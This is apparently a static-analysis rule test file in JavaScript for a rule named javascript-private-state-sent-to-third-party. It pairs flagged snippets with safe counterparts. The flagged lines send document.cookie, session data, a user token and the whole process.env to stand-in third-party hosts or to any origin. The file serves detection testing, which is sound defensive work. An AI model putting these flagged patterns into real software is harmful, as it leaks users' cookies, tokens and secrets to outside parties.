async function feedback(text, session) {
  await fetch('https://collect.thirdparty.example.net/in', {
    method: 'POST',
    // ruleid: javascript-private-state-sent-to-third-party
    body: JSON.stringify({ text, session, cookies: document.cookie }),
  });
}

function report(err) {
  // ruleid: javascript-private-state-sent-to-third-party
  navigator.sendBeacon('https://stats.example.net/e', err.message + document.cookie);
}

class Host {
  start(pluginFile) {
    // ruleid: javascript-private-state-sent-to-third-party
    return new Worker(pluginFile, { env: process.env });
  }
}

function share(frame, user) {
  // ruleid: javascript-private-state-sent-to-third-party
  frame.contentWindow.postMessage({ user, token: user.token }, '*');
}

async function feedbackOnly(text) {
  // ok: javascript-private-state-sent-to-third-party
  await fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify({ text }) });
}

class SmallHost {
  start(pluginFile) {
    // ok: javascript-private-state-sent-to-third-party
    return new Worker(pluginFile, { env: { LANG: 'C.UTF-8' }, workerData: { locale: 'en' } });
  }
}

function shareWithOrigin(frame, size) {
  // ok: javascript-private-state-sent-to-third-party
  frame.contentWindow.postMessage({ size }, 'https://pay.example.com');
}
